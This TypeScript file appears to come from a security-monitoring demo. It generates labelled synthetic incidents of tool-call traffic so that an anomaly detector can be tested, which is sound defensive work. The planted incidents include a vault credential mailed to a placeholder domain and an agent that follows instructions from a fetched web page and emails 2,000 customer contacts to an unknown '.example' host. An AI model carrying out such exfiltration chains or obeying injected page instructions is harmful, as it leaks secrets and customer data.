import { DAY_MS, HOUR_MS, isWorkday, localDate, localTime, zoneOffsetMs } from './calendar.ts'
import { type Call, openSession } from './calls.ts'
import { actorOf, type Person, type Principal, people, principalNamed } from './organisation.ts'
import { createRandom } from './random.ts'
import type { Story } from './routine.ts'
import { byTime } from './routine.ts'

/** The kinds of detector that the demo shows. */
export type IncidentKind = 'volume' | 'off-hours' | 'new-value' | 'chain'

/** Something abnormal that the demo has put into its traffic, with the label that tests compare findings with. */
export interface Incident {
  readonly id: string
  readonly kind: IncidentKind
  readonly actor: string
  readonly window: { readonly startMs: number; readonly endMs: number }
  /** What happened, for people. */
  readonly description: string
  readonly calls: readonly Call[]
}

const MINUTE_MS = 60_000

/** The incidents of the history, oldest first: two of every kind, one of the two in the last 24 hours. */
export function planIncidents(story: Story): readonly Incident[] {
  const { nowMs } = story
  const lastHour = Math.floor(nowMs / HOUR_MS) * HOUR_MS
  return [
    nightVisit(story, 'sunday-export', 'Elena Petrova', sundayNight(story, 'Elena Petrova'), [
      'snowflake/run_query',
      'snowflake/describe_table',
      'gdrive/search_files',
    ]),
    burst(
      story,
      'bulk-export',
      'Carol Jensen',
      workday(story, 'Carol Jensen', 8, 14),
      340,
      45,
      'salesforce/query_records',
      'exports the whole customer list, page by page, within an hour',
    ),
    single(
      story,
      'command-in-a-pod',
      'Quentin Leroy',
      workday(story, 'Quentin Leroy', 7, 11),
      'kubernetes/exec_command',
      'runs a command inside a billing pod, though marketing never touches the cluster',
    ),
    secretSentAway(story, 'Daniel Weiss', workday(story, 'Daniel Weiss', 6, 15)),
    nightVisit(story, 'night-visit', 'Hannah Schmidt', lastNight(story, 'Hannah Schmidt'), [
      'workday/list_employees',
      'workday/get_employee',
      'gdrive/read_file',
    ]),
    burst(
      story,
      'looping-agent',
      'support-triage-agent',
      lastHour - 5 * HOUR_MS + 4 * MINUTE_MS,
      720,
      50,
      'zendesk/search_tickets',
      'asks for the same tickets again and again: an agent in a loop',
    ),
    single(
      story,
      'repository-deleted',
      'release-notes-agent',
      nowMs - 2.6 * HOUR_MS,
      'github/delete_repository',
      'deletes a repository, though it only ever reads pull requests',
    ),
    injectedExport(story, 'market-research-agent', nowMs - 95 * MINUTE_MS),
  ].sort((a, b) => a.window.startMs - b.window.startMs)
}

/** Live traffic has its incidents within two minutes of its start, and then again as often as this. */
export const LIVE_CYCLE_MS = 30 * MINUTE_MS

const LIVE_AGENTS = ['invoice-agent', 'data-quality-agent', 'crm-sync-agent', 'report-agent'] as const
const LIVE_BURSTS = ['incident-watch-agent', 'deploy-agent', 'invoice-agent'] as const
const LIVE_TOOLS = [
  'workday/export_payroll',
  'terraform/destroy',
  'github/add_collaborator',
  'stripe/create_payout',
  'kubernetes/delete_namespace',
  'vault/write_policy',
] as const

/** One small incident of every kind; `cycle` counts from 0, `startMs` is when the cycle begins. */
export function liveIncidents(story: Story, cycle: number, startMs: number): readonly Incident[] {
  const live: Story = { seed: story.seed + 1 + cycle, nowMs: startMs }
  const nth = <T>(items: readonly [T, ...T[]]): T => items[cycle % items.length] ?? items[0]
  return [
    injectedExport(live, nth(LIVE_AGENTS), startMs + 20_000, 4_000),
    single(
      live,
      'live-tool',
      nth(LIVE_AGENTS),
      startMs + 40_000,
      nth(LIVE_TOOLS),
      'uses a tool that nobody here has used',
    ),
    nightVisit(
      live,
      'live-night',
      deepestAsleep(startMs).name,
      startMs + 45_000,
      ['gdrive/search_files', 'gdrive/read_file'],
      8_000,
    ),
    burst(
      live,
      'live-burst',
      nth(LIVE_BURSTS),
      startMs + 60_000,
      240,
      0.9,
      'sentry/get_issue',
      'asks far more often than it ever did: an agent in a loop',
    ),
  ]
}

/** The person for whom it is nearest to three at night. */
function deepestAsleep(atMs: number): Person {
  const distance = (person: Person): number => {
    const hour = ((atMs + zoneOffsetMs(person.zone, atMs)) % DAY_MS) / HOUR_MS
    return Math.min(Math.abs(hour - 3), 24 - Math.abs(hour - 3))
  }
  return people.reduce((best, each) => (distance(each) < distance(best) ? each : best))
}

function label(
  id: string,
  kind: IncidentKind,
  principal: Principal,
  calls: readonly Call[],
  what: string,
): Incident {
  const sorted = [...calls].sort(byTime)
  return {
    id,
    kind,
    actor: actorOf(principal),
    window: { startMs: sorted[0]?.atMs ?? 0, endMs: (sorted.at(-1)?.atMs ?? 0) + 1 },
    description: `${principal.name} ${what}.`,
    calls: sorted,
  }
}

/** `count` calls of one tool within `minutes`. */
function burst(
  story: Story,
  id: string,
  name: string,
  startMs: number,
  count: number,
  minutes: number,
  tool: string,
  what: string,
): Incident {
  const principal = principalNamed(name)
  const random = createRandom(story.seed, id)
  const session = openSession(random, principal)
  const stepMs = (minutes * MINUTE_MS) / count
  const calls = Array.from({ length: count }, (_, index) =>
    session.call(tool, startMs + (index + 0.8 * random.next()) * stepMs),
  )
  return label(id, 'volume', principal, calls, what)
}

/** Nine calls at an hour at which the person sleeps, `gapMs` apart. */
function nightVisit(
  story: Story,
  id: string,
  name: string,
  startMs: number,
  tools: readonly string[],
  gapMs = 6 * MINUTE_MS,
): Incident {
  const principal = principalNamed(name)
  const random = createRandom(story.seed, id)
  const session = openSession(random, principal)
  const calls = Array.from({ length: 9 }, (_, index) =>
    session.call(tools[index % tools.length] ?? '', startMs + (index + 0.5 * random.next()) * gapMs),
  )
  return label(id, 'off-hours', principal, calls, 'works in the middle of the night')
}

function single(story: Story, id: string, name: string, atMs: number, tool: string, what: string): Incident {
  const principal = principalNamed(name)
  const session = openSession(createRandom(story.seed, id), principal)
  return label(id, 'new-value', principal, [session.call(tool, atMs, { outcome: 'success' })], what)
}

/** A credential is read, and minutes later something leaves for a place that nobody has written to before. */
function secretSentAway(story: Story, name: string, startMs: number): Incident {
  const principal = principalNamed(name)
  const session = openSession(createRandom(story.seed, 'secret-sent-away'), principal)
  const calls = [
    session.call('vault/list_secrets', startMs, { outcome: 'success' }),
    session.call('vault/read_secret', startMs + 40_000, {
      outcome: 'success',
      arguments: { path: 'secret/data/billing/stripe-live' },
    }),
    session.call('gmail/send_email', startMs + 170_000, {
      outcome: 'success',
      arguments: { to: 'inbox@paste-drop.example', subject: 'config' },
    }),
  ]
  return label(
    'secret-sent-away',
    'chain',
    principal,
    calls,
    'reads a live credential and mails it to an unknown domain',
  )
}

/** A fetched page carries instructions: the agent reads customer records and sends them out. */
function injectedExport(story: Story, name: string, startMs: number, gapMs = 50_000): Incident {
  const principal = principalNamed(name)
  const random = createRandom(story.seed, 'injected-export', name)
  const session = openSession(random, principal)
  const calls = [
    session.call('fetch/fetch', startMs, {
      outcome: 'success',
      arguments: { url: 'https://forum.acme-reviews.example/t/1934' },
    }),
    session.call('salesforce/query_records', startMs + gapMs, {
      outcome: 'success',
      answerBytes: 420_000,
      arguments: { soql: 'SELECT Name, Email, Phone FROM Contact LIMIT 2000' },
    }),
    session.call('gmail/send_email', startMs + 2 * gapMs, {
      outcome: 'success',
      answerBytes: 400,
      arguments: { to: `collect@data-relay-${random.hex(4)}.example`, subject: 'contacts' },
    }),
  ]
  return label(
    `injected-export-${name}`,
    'chain',
    principal,
    calls,
    'follows instructions from a fetched page: reads the customers and sends them to an unknown domain',
  )
}

/** A time of day on a day the person works, at least `daysAgo` days before the end of the history. */
function workday(story: Story, name: string, daysAgo: number, hour: number): number {
  const person = principalNamed(name) as Person
  let date = localDate(person.zone, story.nowMs) - daysAgo
  while (!isWorkday(person.country, date)) date -= 1
  return localTime(person.zone, date, hour + 0.1)
}

/** A quarter to three at night where the person lives: the last one that is over by now. */
function lastNight(story: Story, name: string): number {
  const person = principalNamed(name) as Person
  const today = localTime(person.zone, localDate(person.zone, story.nowMs), 2.75)
  return today + 1.2 * HOUR_MS < story.nowMs
    ? today
    : localTime(person.zone, localDate(person.zone, story.nowMs) - 1, 2.75)
}

function sundayNight(story: Story, name: string): number {
  const person = principalNamed(name) as Person
  let date = localDate(person.zone, story.nowMs) - 8
  while (new Date(date * DAY_MS).getUTCDay() !== 0) date -= 1
  return localTime(person.zone, date, 2.5)
}
